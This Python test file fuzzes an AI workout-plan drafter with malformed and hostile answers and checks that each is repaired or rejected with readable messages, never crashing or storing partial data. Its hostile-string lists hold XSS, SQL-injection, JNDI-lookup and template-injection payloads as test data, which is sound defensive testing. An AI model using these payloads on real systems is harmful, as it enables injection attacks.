"""Fuzzing the AI drafter: malformed or hostile answers are rejected readably or repaired, never a crash.

The issue's bar: ≥ 1,000 generated malformed or hostile answers (wrong types, missing weeks, extra
weeks, negative sets, 10,000 exercises, huge strings, wrong dates, duplicate ids) → each rejected with
a clear message or repaired; nothing stored half; no crash.

Example counts (``max_examples``; none of these spaces is small enough for hypothesis to stop early):

    part (i), pure parsing and conversion
      test_arbitrary_json_as_a_week_answer            250
      test_arbitrary_text_as_a_week_answer            100
      test_mutated_week_answer                        300
      test_arbitrary_json_as_an_outline_answer        100
      test_mutated_outline_answer                     100
      test_arbitrary_json_as_a_mesocycle              150
      test_mutated_mesocycle_json                     250
                                                    -----
                                                    1,250 generated answers
    part (ii), through the real SDK and the fake server
      test_hostile_answers_end_to_end                  40 blocks (a few hostile answers each)
    part (iii), hostile text through SQLite
      test_hostile_text_round_trips_verbatim           12 fixed strings (parametrized)
      test_generated_text_round_trips_verbatim         40
      test_a_failing_save_stores_nothing               1

Every outcome is either a valid model or a list of readable lines ("path: reason"); any other
exception type fails the test. ``derandomize=True`` keeps CI runs reproducible. The bugs this
fuzzing found (unbounded titles in problem lines, NaN metrics, ASCII-only lower() on SQLite, LIKE
wildcards in search) each keep a regression test at the end of this file.
"""

from __future__ import annotations

import copy
import json
import re
import threading
import uuid
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import openai
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from pydantic import ValidationError
from sqlalchemy import text

from core.dates import DateRange, microcycle_date_ranges
from core.errors import InvalidPlan, PeriodizeError
from core.generation.base import OFFLINE_FALLBACK, OPENAI
from core.generation.engine import OfflineEngine
from core.generation.errors import GenerationError
from core.generation.llm import (
    DraftOutline,
    DraftProblems,
    DraftWeek,
    OpenAIGenerator,
    draft_outline_to_program,
    draft_week_to_microcycle,
    outline_problems,
)
from core.records import assign_ids, build_mesocycle_rows
from core.schemas import (
    FitnessProgram,
    MesocycleDetailed,
    Microcycle,
    WorkoutBlock,
    describe_validation_error,
)
from core.service import MesocycleGenerationService, Preview
from core.validation import Problem, has_errors, validate_mesocycle, validate_mesocycle_json
from db.accounts import local_coach
from db.engine import make_engine
from db.migrate import upgrade_to_head
from db.storage import SqlStorage
from tests.factories import make_profile
from tests.fake_openai import (
    FakeOpenAIServer,
    FakeResponse,
    RecordedRequest,
    content,
    draft_from_microcycle,
    finish,
    refusal,
    status,
)
from tests.fake_openai import draft_exercise as exercise


def fuzz(max_examples: int) -> settings:
    return settings(
        max_examples=max_examples,
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


MONDAY = date(2025, 3, 3)
THURSDAY = date(2025, 3, 6)
SUNDAY = date(2025, 3, 9)
WEEKS = {
    "full week": (1, microcycle_date_ranges(MONDAY, 1)[1]),
    "Thu–Sun transition": (0, microcycle_date_ranges(THURSDAY, 1)[0]),
    "Sun-only transition": (0, microcycle_date_ranges(SUNDAY, 1)[0]),
}
PROFILE = make_profile()

HUGE_TEXT = "x" * 100_000
HOSTILE_STRINGS = [
    "",
    " ",
    HUGE_TEXT,
    "<script>alert('x')</script>",
    "'); DROP TABLE clients;--",
    "2025-02-30",
    "2025-13-45T25:61:00Z",
    "\x00\x01\x02",
    "Mon ",
    "Monday",
    "null",
    "NaN",
    "-1",
    "00000000-0000-0000-0000-000000000000",
    "🏋️‍♀️" * 50,
]
HOSTILE_NUMBERS: list[Any] = [
    -1,
    0,
    -(10**9),
    10**9,
    10**30,
    -(10**30),
    2**63,
    1e308,
    -1e308,
    1e-308,
    0.5,
    -0.0,
    float("inf"),
    float("-inf"),
    float("nan"),
]

json_leaves = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=30)
)
json_values = st.recursive(
    json_leaves,
    lambda children: (
        st.lists(children, max_size=6) | st.dictionaries(st.text(max_size=12), children, max_size=6)
    ),
    max_leaves=30,
)
hostile_values = (
    json_leaves
    | st.sampled_from(HOSTILE_STRINGS)
    | st.sampled_from(HOSTILE_NUMBERS)
    | st.sampled_from([[], {}, [None], {"id": "dup"}, [[[]]]])
)


# --- valid answers to mutate ---------------------------------------------------------------------


def workout(weekday: str, title: str) -> dict[str, Any]:
    return {
        "weekday": weekday,
        "session_type": "lift",
        "title": title,
        "blocks": [
            {"label": "Main", "exercises": [exercise(), exercise("Romanian Deadlift", reps=8)]},
            {
                "label": "Accessories",
                "exercises": [
                    exercise("Plank", reps=None, reps_max=None, duration_minutes=1, pct_one_rm=None)
                ],
            },
        ],
        "targets": [{"key": "main_sets", "value": 4}],
        "planned_minutes": 60,
        "target_rpe": 7.5,
        "notes": None,
    }


def valid_week(days: tuple[str, ...] = ("Thu", "Fri", "Sun")) -> dict[str, Any]:
    """Valid in every week of ``WEEKS`` except the Sunday-only one (which only Sun fits)."""
    return {
        "week_number": 1,
        "metrics": [{"key": "hard_sets_quads", "value": 12}],
        "workouts": [workout(day, f"{day} session") for day in days],
    }


def valid_outline(weeks: int = 8) -> dict[str, Any]:
    def target(offset: int, deload: bool) -> dict[str, Any]:
        return {
            "week_offset": offset,
            "split": "Upper-Lower-Rest-Upper-Lower-Rest-Rest",
            "total_mileage": None,
            "long_run_mileage": None,
            "avg_intensity_pct_1rm": 70 + offset,
            "total_sets_main_lifts": 12 + offset,
            "deload": deload,
        }

    half = weeks // 2
    phases = [
        {
            "phase": name,
            "weeks": half,
            "weekly_targets": [target(i, i == half - 1) for i in range(half)],
        }
        for name in ("Hypertrophy", "Strength")
    ]
    return {
        "program_type": "strength",
        "overview": "Eight weeks: build, then strength.",
        "macrocycles": [{"name": "Block", "length_weeks": weeks, "mesocycles": phases}],
    }


# --- mutations -----------------------------------------------------------------------------------

JsonPath = tuple[Any, ...]


def paths(value: Any, prefix: JsonPath = ()) -> list[JsonPath]:
    found = [prefix]
    if isinstance(value, dict):
        for key, child in value.items():
            found += paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found += paths(child, (*prefix, index))
    return found


def parent_of(document: Any, path: JsonPath) -> tuple[Any, Any]:
    node = document
    for part in path[:-1]:
        node = node[part]
    return node, path[-1]


def mutate_at(document: Any, path: JsonPath, op: str, value: Any) -> Any:
    """One generic mutation at ``path`` (the root is replaced, never deleted)."""
    if not path:
        return value if op in ("replace", "delete") else [document, document]
    parent, key = parent_of(document, path)
    if op == "replace":
        parent[key] = value
    elif op == "delete":
        del parent[key]
    elif op == "null":
        parent[key] = None
    elif op == "wrap":
        parent[key] = [parent[key]]
    elif op == "duplicate":
        if isinstance(parent, list):
            parent.insert(key, copy.deepcopy(parent[key]))
        else:
            parent[f"{key}_copy"] = copy.deepcopy(parent[key])
    elif op == "unknown_key":
        target = parent[key]
        if isinstance(target, dict):
            target["unexpected"] = value
        else:
            parent[key] = {"value": target, "unexpected": value}
    return document


OPS = ["replace", "delete", "null", "wrap", "duplicate", "unknown_key"]


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any], targeted: list[Any]) -> dict[str, Any]:
    """A valid answer, then one targeted hostile change and 0–3 generic ones at random paths."""
    document = copy.deepcopy(base)
    change = draw(st.sampled_from([None, *targeted]))
    if change is not None:
        document = change(document)
    for _ in range(draw(st.sampled_from([0, 0, 0, 1, 1, 2, 3]))):
        path = draw(st.sampled_from(paths(document)))
        op = draw(st.sampled_from(OPS))
        document = mutate_at(document, path, op, copy.deepcopy(draw(hostile_values)))
    return document


def _each_exercise(document: dict[str, Any]) -> list[dict[str, Any]]:
    return [e for w in document["workouts"] for b in w["blocks"] for e in b["exercises"]]


def _set_all(field: str, value: Any) -> Any:
    def change(document: dict[str, Any]) -> dict[str, Any]:
        for item in _each_exercise(document):
            item[field] = value
        return document

    change.__name__ = f"set_{field}_{value!r}"[:40]
    return change


def ten_thousand_exercises(document: dict[str, Any]) -> dict[str, Any]:
    document["workouts"][0]["blocks"][0]["exercises"] = [
        exercise(f"Lift {i}") for i in range(10_000)
    ]
    return document


def huge_strings(document: dict[str, Any]) -> dict[str, Any]:
    document["workouts"][0]["title"] = HUGE_TEXT
    document["workouts"][0]["notes"] = HUGE_TEXT
    document["workouts"][0]["blocks"][0]["exercises"][0]["notes"] = HUGE_TEXT
    document["workouts"][0]["blocks"][0]["exercises"][0]["name"] = HUGE_TEXT
    return document


def hostile_text(document: dict[str, Any]) -> dict[str, Any]:
    document["workouts"][0]["title"] = "<b>Upper</b><script>alert(1)</script>"
    document["workouts"][0]["blocks"][0]["exercises"][0]["notes"] = "'); DROP TABLE clients;--"
    return document


def dated_sessions(document: dict[str, Any]) -> dict[str, Any]:
    for item, day in zip(
        document["workouts"], ["2025-02-30", "2025-03-06", "yesterday"], strict=False
    ):
        item["date"] = day
    return document


def weekday_as_date(document: dict[str, Any]) -> dict[str, Any]:
    document["workouts"][0]["weekday"] = "2025-03-06"
    return document


def every_weekday(document: dict[str, Any]) -> dict[str, Any]:
    document["workouts"] = [
        workout(day, day) for day in ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
    ]
    return document


def too_many_sessions(document: dict[str, Any]) -> dict[str, Any]:
    document["workouts"] = [workout("Sun", f"S{i}") for i in range(40)]
    return document


def duplicate_sessions(document: dict[str, Any]) -> dict[str, Any]:
    document["workouts"] = document["workouts"] + copy.deepcopy(document["workouts"])
    return document


def duplicate_ids(document: dict[str, Any]) -> dict[str, Any]:
    document["id"] = "week-1"
    for item in document["workouts"]:
        item["id"] = "same-id"
    return document


def no_workouts(document: dict[str, Any]) -> dict[str, Any]:
    document["workouts"] = []
    return document


def drop_dose(document: dict[str, Any]) -> dict[str, Any]:
    for item in _each_exercise(document):
        item.update(reps=None, reps_max=None, duration_minutes=None, distance_km=None)
    return document


def inverted_range(document: dict[str, Any]) -> dict[str, Any]:
    for item in _each_exercise(document):
        item.update(reps=12, reps_max=3)
    return document


def many_metrics(document: dict[str, Any]) -> dict[str, Any]:
    document["metrics"] = [{"key": f"m{i}", "value": i} for i in range(1_000)]
    document["metrics"].append({"key": HUGE_TEXT, "value": HUGE_TEXT})
    return document


WEEK_CHANGES = [
    _set_all("sets", -3),
    _set_all("sets", 0),
    _set_all("sets", 10**12),
    _set_all("reps", -1),
    _set_all("load_kg", -20),
    _set_all("load_kg", 1e308),
    _set_all("pct_one_rm", 500),
    _set_all("rpe", 11),
    _set_all("rir", -2),
    _set_all("rest_seconds", -60),
    _set_all("sets", "four"),
    _set_all("sets", 4.5),
    _set_all("sets", None),
    _set_all("name", ""),
    ten_thousand_exercises,
    huge_strings,
    hostile_text,
    dated_sessions,
    weekday_as_date,
    every_weekday,
    too_many_sessions,
    duplicate_sessions,
    duplicate_ids,
    no_workouts,
    drop_dose,
    inverted_range,
    many_metrics,
]


# --- the property: a valid model, or readable lines ----------------------------------------------

MAX_LINE = 2_000
"""A readable line is a sentence, not a 100,000-character echo of the input."""


def assert_readable(lines: list[str], *, path: re.Pattern[str] | None = None) -> None:
    assert lines, "rejected without a single reason"
    for line in lines:
        assert isinstance(line, str) and line.strip(), f"an empty problem line in {lines[:5]}"
        assert len(line) <= MAX_LINE, f"a {len(line)}-character problem line: {line[:200]}…"
        if path is not None:
            assert path.search(line), f"no path in {line!r}"


VALIDATION_LINE = re.compile(r": \S")
"""describe_validation_error's 'path: reason' (the root is called 'input'). The path may look blank
when the answer's own unknown key is blank or holds a newline (``{" ": 1}`` gives " : Extra inputs…")."""
DRAFT_LINE = re.compile(r"^(session \d+ |week \d+ ›)")


def parse_week(raw: str | bytes, week_number: int, dates: DateRange) -> Microcycle | list[str]:
    """What the drafter does with an answer: the SDK's parse, then the conversion to a Microcycle."""
    try:
        draft = DraftWeek.model_validate_json(raw)
    except ValidationError as error:
        lines = describe_validation_error(error)
        assert_readable(lines, path=VALIDATION_LINE)
        _event("week: rejected by the draft schema")
        return lines
    try:
        micro = draft_week_to_microcycle(draft, week_number, dates, deload=False)
    except DraftProblems as error:
        # Known issue (see test_a_huge_title_is_not_echoed_into_every_problem): the session's
        # title is echoed whole; set it aside so any *other* unbounded echo still fails here.
        titles = sorted({w.title for w in draft.workouts if len(w.title) > 120}, key=len)
        shown = [_without(line, titles) for line in error.problems]
        assert_readable(shown, path=DRAFT_LINE)
        assert str(error).strip()
        _event("week: parsed, rejected by the domain rules")
        return error.problems
    _event("week: became a microcycle")
    assert micro.week_number == week_number
    assert (micro.start_date, micro.end_date) == (dates.start_date, dates.end_date)
    assert all(dates.start_date <= w.date <= dates.end_date for w in micro.workouts)
    assert len(micro.workouts) == len(draft.workouts)
    return micro


def _event(label: str) -> None:
    """Outcome tally for ``--hypothesis-show-statistics`` (a no-op outside a hypothesis test)."""
    if currently_in_test_context():
        event(label)


def _without(line: str, titles: list[str]) -> str:
    for title in reversed(titles):
        line = line.replace(title, "<title>")
    return line


def dumps(document: Any) -> str:
    return json.dumps(document, allow_nan=True)


week_choice = st.sampled_from(sorted(WEEKS))


# --- part (i): weeks -----------------------------------------------------------------------------


@fuzz(250)
@given(
    answer=json_values
    | st.fixed_dictionaries(
        {"week_number": json_values, "metrics": json_values, "workouts": json_values}
    )
    | st.fixed_dictionaries(
        {
            "week_number": st.integers(),
            "metrics": st.just([]),
            "workouts": st.lists(
                st.fixed_dictionaries(
                    {
                        "weekday": st.sampled_from(["Mon", "Thu", "Sun", "mon", "", "Funday"])
                        | json_leaves,
                        "session_type": json_leaves | st.just("lift"),
                        "title": json_leaves,
                        "blocks": json_values,
                        "targets": json_values,
                        "planned_minutes": json_leaves,
                        "target_rpe": json_leaves,
                        "notes": json_leaves,
                    }
                ),
                max_size=4,
            ),
        }
    ),
    which=week_choice,
)
def test_arbitrary_json_as_a_week_answer(answer: Any, which: str) -> None:
    parse_week(dumps(answer), *WEEKS[which])


@fuzz(100)
@given(
    raw=st.text(max_size=200)
    | st.binary(max_size=200)
    | st.builds(
        lambda cut, junk: dumps(valid_week())[:cut] + junk,
        st.integers(0, 2_000),
        st.sampled_from(["", "```", "\n```json", "}}", "\x00", "\ufeff", " trailing words"]),
    )
    | st.builds(lambda text: f"```json\n{text}\n```", st.just(dumps(valid_week()))),
    which=week_choice,
)
def test_arbitrary_text_as_a_week_answer(raw: str | bytes, which: str) -> None:
    """Not JSON at all, cut off, fenced in markdown, with a BOM or trailing words."""
    parse_week(raw, *WEEKS[which])


@fuzz(300)
@given(answer=mutated(valid_week(), WEEK_CHANGES), which=week_choice)
def test_mutated_week_answer(answer: dict[str, Any], which: str) -> None:
    parse_week(dumps(answer), *WEEKS[which])


def test_the_unmutated_week_answer_is_valid() -> None:
    """Guard: the fuzzers' starting point converts, so their rejections come from the mutations."""
    for name in ("full week", "Thu–Sun transition"):
        assert isinstance(parse_week(dumps(valid_week()), *WEEKS[name]), Microcycle)
    assert parse_week(dumps(valid_week()), *WEEKS["Sun-only transition"])[0].startswith(
        "session 1 ('Thu session', Thu): Thu is not part of this week"
    )


def test_a_huge_title_is_not_echoed_into_every_problem() -> None:
    answer = valid_week()
    answer["workouts"][0]["title"] = HUGE_TEXT
    problems = parse_week(dumps(answer), *WEEKS["Sun-only transition"])
    assert isinstance(problems, list)
    assert max(len(line) for line in problems) <= MAX_LINE


# --- part (i): outlines --------------------------------------------------------------------------


def parse_outline(raw: str) -> FitnessProgram | list[str]:
    try:
        draft = DraftOutline.model_validate_json(raw)
    except ValidationError as error:
        lines = describe_validation_error(error)
        assert_readable(lines, path=VALIDATION_LINE)
        return lines
    try:
        program = draft_outline_to_program(draft)
    except DraftProblems as error:
        assert_readable(error.problems, path=VALIDATION_LINE)
        return error.problems
    problems = outline_problems(program, 8, PROFILE)
    if problems:
        assert_readable(problems)
        return problems
    return program


def _phase_weeks(value: Any) -> Any:
    def change(document: dict[str, Any]) -> dict[str, Any]:
        document["macrocycles"][0]["mesocycles"][0]["weeks"] = value
        return document

    return change


def _missing_target(document: dict[str, Any]) -> dict[str, Any]:
    document["macrocycles"][0]["mesocycles"][0]["weekly_targets"].pop()
    return document


def _extra_target(document: dict[str, Any]) -> dict[str, Any]:
    targets = document["macrocycles"][0]["mesocycles"][0]["weekly_targets"]
    targets.append(copy.deepcopy(targets[-1]))
    return document


def _seven_day_split(document: dict[str, Any]) -> dict[str, Any]:
    for phase in document["macrocycles"][0]["mesocycles"]:
        for target in phase["weekly_targets"]:
            target["split"] = "A-B-C-D-E-F-G"
    return document


def _endurance_without_mileage(document: dict[str, Any]) -> dict[str, Any]:
    document["program_type"] = "endurance"
    return document


def _huge_overview(document: dict[str, Any]) -> dict[str, Any]:
    document["overview"] = HUGE_TEXT
    document["macrocycles"][0]["name"] = HUGE_TEXT
    return document


def _thousand_phases(document: dict[str, Any]) -> dict[str, Any]:
    phase = document["macrocycles"][0]["mesocycles"][0]
    document["macrocycles"][0]["mesocycles"] = [copy.deepcopy(phase) for _ in range(1_000)]
    return document


OUTLINE_CHANGES = [
    _phase_weeks(-4),
    _phase_weeks(0),
    _phase_weeks(10**6),
    _phase_weeks("four"),
    _missing_target,
    _extra_target,
    _seven_day_split,
    _endurance_without_mileage,
    _huge_overview,
    _thousand_phases,
]


@fuzz(100)
@given(
    answer=json_values
    | st.fixed_dictionaries(
        {"program_type": json_leaves, "overview": json_leaves, "macrocycles": json_values}
    )
)
def test_arbitrary_json_as_an_outline_answer(answer: Any) -> None:
    parse_outline(dumps(answer))


@fuzz(100)
@given(answer=mutated(valid_outline(), OUTLINE_CHANGES))
def test_mutated_outline_answer(answer: dict[str, Any]) -> None:
    parse_outline(dumps(answer))


def test_the_unmutated_outline_is_valid() -> None:
    assert isinstance(parse_outline(dumps(valid_outline())), FitnessProgram)


# --- part (i): whole mesocycles (the validator's JSON entry point) --------------------------------

ENGINE = OfflineEngine()
START = THURSDAY  # a transition week 0, then full weeks
PROGRAM = ENGINE.outline(PROFILE, 12, START)
PLAN = PROGRAM.macrocycles[0].mesocycles[0]
VALID_MESOCYCLE = ENGINE.breakdown(PLAN, PROFILE, PROGRAM.program_type, START)


def valid_mesocycle_json() -> dict[str, Any]:
    """The engine's block with ids, as camelCase JSON (what an edited preview round-trips as)."""
    return assign_ids(VALID_MESOCYCLE).model_dump(mode="json")


def _micros(document: dict[str, Any]) -> list[dict[str, Any]]:
    return document["microcycles"]


def _drop_week(document: dict[str, Any]) -> dict[str, Any]:
    _micros(document).pop(2)
    return document


def _drop_last_week(document: dict[str, Any]) -> dict[str, Any]:
    _micros(document).pop()
    return document


def _extra_week(document: dict[str, Any]) -> dict[str, Any]:
    extra = copy.deepcopy(_micros(document)[-1])
    extra["weekNumber"] += 1
    _micros(document).append(extra)
    return document


def _duplicate_week(document: dict[str, Any]) -> dict[str, Any]:
    _micros(document).insert(1, copy.deepcopy(_micros(document)[1]))
    return document


def _swap_weeks(document: dict[str, Any]) -> dict[str, Any]:
    micros = _micros(document)
    micros[1], micros[2] = micros[2], micros[1]
    return document


def _shift_week_dates(days: int) -> Any:
    def change(document: dict[str, Any]) -> dict[str, Any]:
        micro = _micros(document)[1]
        for key in ("startDate", "endDate"):
            micro[key] = (date.fromisoformat(micro[key]) + timedelta(days=days)).isoformat()
        for item in micro["workouts"]:
            item["date"] = (date.fromisoformat(item["date"]) + timedelta(days=days)).isoformat()
        return document

    change.__name__ = f"shift_week_dates_{days}"
    return change


def _workout_in_another_week(document: dict[str, Any]) -> dict[str, Any]:
    first = _micros(document)[1]["workouts"][0]
    first["date"] = _micros(document)[2]["workouts"][0]["date"]
    return document


def _impossible_dates(document: dict[str, Any]) -> dict[str, Any]:
    document["startDate"] = "2025-02-30"
    _micros(document)[1]["workouts"][0]["date"] = "2025-13-45"
    return document


def _wrong_start(document: dict[str, Any]) -> dict[str, Any]:
    document["startDate"] = "2025-03-03"
    return document


def _duplicate_workout_ids(document: dict[str, Any]) -> dict[str, Any]:
    workouts = [w for micro in _micros(document) for w in micro["workouts"]]
    workouts[1]["id"] = workouts[0]["id"]
    return document


def _shared_id_across_levels(document: dict[str, Any]) -> dict[str, Any]:
    _micros(document)[1]["id"] = document["mesocycleId"]
    _micros(document)[2]["workouts"][0]["id"] = document["mesocycleId"]
    return document


def _llm_label_ids(document: dict[str, Any]) -> dict[str, Any]:
    _micros(document)[1]["id"] = "week-1"
    _micros(document)[1]["workouts"][0]["id"] = "w1"
    return document


def _meso_exercises(document: dict[str, Any]) -> list[dict[str, Any]]:
    return [
        e
        for micro in _micros(document)
        for w in micro["workouts"]
        for b in w["blocks"]
        for e in b["exercises"]
    ]


def _meso_set_all(field: str, value: Any) -> Any:
    def change(document: dict[str, Any]) -> dict[str, Any]:
        for item in _meso_exercises(document):
            item[field] = value
        return document

    change.__name__ = f"meso_set_{field}"
    return change


def _meso_ten_thousand_exercises(document: dict[str, Any]) -> dict[str, Any]:
    block = _micros(document)[1]["workouts"][0]["blocks"][0]
    block["exercises"] = [copy.deepcopy(block["exercises"][0]) for _ in range(10_000)]
    return document


def _meso_huge_strings(document: dict[str, Any]) -> dict[str, Any]:
    document["phase"] = HUGE_TEXT
    workout_ = _micros(document)[1]["workouts"][0]
    workout_["title"] = workout_["notes"] = HUGE_TEXT
    return document


def _weeks_mismatch(document: dict[str, Any]) -> dict[str, Any]:
    document["weeks"] += 1
    return document


def _targets_missing(document: dict[str, Any]) -> dict[str, Any]:
    document["weeklyTargets"] = document["weeklyTargets"][:-1]
    document["weeks"] -= 1
    return document


def _sessions_on_rest_days(document: dict[str, Any]) -> dict[str, Any]:
    micro = _micros(document)[1]
    monday = date.fromisoformat(micro["startDate"])
    extra = copy.deepcopy(micro["workouts"][0])
    extra.pop("id", None)
    micro["workouts"] = [
        {**copy.deepcopy(extra), "date": (monday + timedelta(days=i)).isoformat()} for i in range(7)
    ]
    return document


def _snake_case_keys(document: dict[str, Any]) -> dict[str, Any]:
    document["weekly_targets"] = document.pop("weeklyTargets")
    return document


MESOCYCLE_CHANGES = [
    _drop_week,
    _drop_last_week,
    _extra_week,
    _duplicate_week,
    _swap_weeks,
    _shift_week_dates(1),
    _shift_week_dates(-7),
    _workout_in_another_week,
    _impossible_dates,
    _wrong_start,
    _duplicate_workout_ids,
    _shared_id_across_levels,
    _llm_label_ids,
    _meso_set_all("sets", -3),
    _meso_set_all("sets", 20),
    _meso_set_all("pctOneRm", 105),
    _meso_set_all("loadKg", 590),
    _meso_set_all("rir", 0),
    _meso_set_all("name", "Barbell Back Squat"),
    _meso_ten_thousand_exercises,
    _meso_huge_strings,
    _weeks_mismatch,
    _targets_missing,
    _sessions_on_rest_days,
    _snake_case_keys,
]

PROBLEM_PATH = re.compile(r"\S")


def check_mesocycle(data: Any) -> MesocycleDetailed | list[Problem]:
    """validate_mesocycle_json's outcome: no model and errors, or a model and its problems; a model
    without errors must be storable (its rows build without an InvalidPlan)."""
    mesocycle, problems = validate_mesocycle_json(data, PROFILE, PROGRAM.program_type, START)
    for problem in problems:
        assert problem.severity in ("error", "warning")
        assert isinstance(problem.path, str) and PROBLEM_PATH.search(problem.path), problem
        assert problem.message.strip(), problem
        assert len(problem.path) + len(problem.message) <= MAX_LINE, problem.message[:200]
    if mesocycle is None:
        assert has_errors(problems), "rejected without an error"
        _event("mesocycle: rejected by the schema")
        return problems
    if has_errors(problems):
        _event("mesocycle: parsed, rejected by the rules")
        return problems
    _event("mesocycle: valid")
    build_mesocycle_rows(mesocycle, uuid.uuid4(), "m", uuid.uuid4(), 0, START, datetime.now(UTC))
    return mesocycle


def test_the_unmutated_mesocycle_is_valid() -> None:
    assert isinstance(check_mesocycle(valid_mesocycle_json()), MesocycleDetailed)


@fuzz(150)
@given(
    data=json_values
    | st.fixed_dictionaries(
        {
            "phase": json_leaves,
            "weeks": json_leaves,
            "weeklyTargets": json_values,
            "microcycles": json_values,
        }
    )
)
def test_arbitrary_json_as_a_mesocycle(data: Any) -> None:
    check_mesocycle(data)


@fuzz(250)
@given(data=mutated(valid_mesocycle_json(), MESOCYCLE_CHANGES))
def test_mutated_mesocycle_json(data: dict[str, Any]) -> None:
    check_mesocycle(data)


# --- part (ii): hostile answers through the real SDK and the fake server --------------------------

E2E_PLAN = PROGRAM.macrocycles[0].mesocycles[0]
E2E_WEEKS = sorted(micro.week_number for micro in VALID_MESOCYCLE.microcycles)


GOOD_DRAFTS = {
    micro.week_number: draft_from_microcycle(micro) for micro in VALID_MESOCYCLE.microcycles
}
SERVICE_FAILURES = ("refusal", "content_filter", "http_500", "http_400")


CONTENT_KINDS = ["good"] * 3 + ["mutated"] * 4 + ["json", "text", "cut_off", "good_but_long"]


def service_failure(kind: str) -> FakeResponse:
    if kind == "refusal":
        return refusal("I can't help with that.")
    if kind == "content_filter":
        return finish("content_filter", "")
    return status(500 if kind == "http_500" else 400, "fake failure", retry_after_ms=None)


@st.composite
def content_answer(draw: st.DrawFn, week_number: int) -> tuple[str, FakeResponse]:
    """(kind, response): a good, mutated, foreign, empty or cut-off answer for one week."""
    kind = draw(st.sampled_from(CONTENT_KINDS))
    good = GOOD_DRAFTS[week_number]
    if kind == "good":
        return kind, content(good)
    if kind == "mutated":
        return kind, content(dumps(draw(mutated(good, WEEK_CHANGES))))
    if kind == "json":
        return kind, content(dumps(draw(json_values)))
    if kind == "text":
        texts = ["", "null", "{}", "[]", "Sure! Here is your plan:", HUGE_TEXT]
        return kind, content(draw(st.sampled_from(texts)))
    if kind == "cut_off":
        return kind, finish("length", dumps(good)[: draw(st.integers(0, 400))])
    return kind, content(good, finish_reason="length")  # complete, but flagged as cut off


@st.composite
def scripts(draw: st.DrawFn) -> dict[int, list[tuple[str, FakeResponse]]]:
    """Per week, the answers to its 1st, 2nd, 3rd… call (the last one repeats); in about a third
    of the blocks one answer somewhere is a service failure instead."""
    script = {
        number: draw(st.lists(content_answer(number), min_size=1, max_size=3))
        for number in E2E_WEEKS
    }
    failure = draw(st.sampled_from([None] * 7 + list(SERVICE_FAILURES)))
    if failure is not None:
        answers = script[draw(st.sampled_from(E2E_WEEKS))]
        answers[draw(st.integers(0, len(answers) - 1))] = (failure, service_failure(failure))
    return script


class ScriptedResponder:
    def __init__(self, script: dict[int, list[tuple[str, FakeResponse]]]) -> None:
        self.script = script
        self.calls: dict[int, int] = dict.fromkeys(script, 0)
        self.served: list[str] = []
        self.lock = threading.Lock()

    def __call__(self, request: RecordedRequest) -> FakeResponse:
        first_user = next(m for m in request.messages if m["role"] == "user")
        number = int(re.search(r"Week to write: (\d+)", first_user["content"]).group(1))
        with self.lock:
            answers = self.script[number]
            kind, response = answers[min(self.calls[number], len(answers) - 1)]
            self.calls[number] += 1
            self.served.append(kind)
        return response


@pytest.fixture(scope="module")
def fake_server() -> Iterator[FakeOpenAIServer]:
    with FakeOpenAIServer() as server:
        yield server


@fuzz(40)
@given(script=scripts())
def test_hostile_answers_end_to_end(fake_server: FakeOpenAIServer, script: Any) -> None:
    """Repaired, fallen back per week, or a GenerationError — and only for a service failure."""
    responder = ScriptedResponder(script)
    fake_server.responder = responder
    generator = OpenAIGenerator(
        openai.OpenAI(base_url=fake_server.url, api_key="test-key", max_retries=0, timeout=10),
        model="fuzz-model",
        fallback=ENGINE,
        validate=validate_mesocycle,
        max_repairs=2,
    )
    try:
        mesocycle = generator.breakdown(E2E_PLAN, PROFILE, PROGRAM.program_type, START)
    except GenerationError as error:
        assert str(error).strip() and len(str(error)) <= MAX_LINE
        assert set(responder.served) & set(SERVICE_FAILURES), (
            f"{type(error).__name__} ({error}) without a service failure: {responder.served}"
        )
        _event(f"e2e: {type(error).__name__}")
        return
    assert [m.week_number for m in mesocycle.microcycles] == E2E_WEEKS
    assert {m.generated_by for m in mesocycle.microcycles} <= {OPENAI, OFFLINE_FALLBACK}
    problems = validate_mesocycle(mesocycle, PROFILE, PROGRAM.program_type, START)
    assert not has_errors(problems), [p for p in problems if p.severity == "error"]
    fallen = sum(m.generated_by == OFFLINE_FALLBACK for m in mesocycle.microcycles)
    _event(f"e2e: mesocycle with {fallen} fallback week(s)")


# --- part (iii): hostile text is stored verbatim; a failing save stores nothing ---------------------

HOSTILE_TEXT = [
    "<script>alert('x')</script>",
    "'); DROP TABLE clients;--",
    "Robert'); DROP TABLE workout_instances; --",
    '<img src=x onerror="alert(1)">',
    '" OR 1=1 --',
    "%s %(name)s {0} {name} $name",
    "50% _of_ 100%",
    "Zoë 李 🏋️‍♀️ \u202eevil",
    "line one\nline two\r\n\ttabbed",
    "${jndi:ldap://example.invalid/a} {{7*7}}",
    "NUL \x00 inside",
    "back\\slash \\' \\\" quotes",
]


class Stack:
    """A migrated SQLite file with the real storage and service on it."""

    def __init__(self, path: Path) -> None:
        self.engine = make_engine(f"sqlite:///{path}")
        upgrade_to_head(self.engine)
        self.storage = SqlStorage(self.engine, local_coach(self.engine).id)
        self.service = MesocycleGenerationService(self.storage, ENGINE)

    def count(self, table: str) -> int:
        with self.engine.connect() as connection:
            return connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()

    def counts(self) -> dict[str, int]:
        tables = ("clients", "fitness_programs", "mesocycles", "microcycles", "workout_instances")
        return {table: self.count(table) for table in tables}

    def preview(self, name: str, phase: int = 0) -> Preview:
        client = self.storage.get_client(self.storage.create_client(make_profile(name=name)))
        program = self.storage.get_program(self.service.create_program(client, 12, START))
        slot = self.service.phases(program)[phase]
        return self.service.preview(
            client,
            slot.plan,
            program.id,
            slot.macrocycle_id,
            slot.start_date,
            program.program.program_type,
        )


def with_text(mesocycle: MesocycleDetailed, value: str) -> MesocycleDetailed:
    """Every session's title and notes, and every exercise's notes, set to ``value``."""

    def block(item: WorkoutBlock) -> WorkoutBlock:
        exercises = [e.model_copy(update={"notes": value[:500]}) for e in item.exercises]
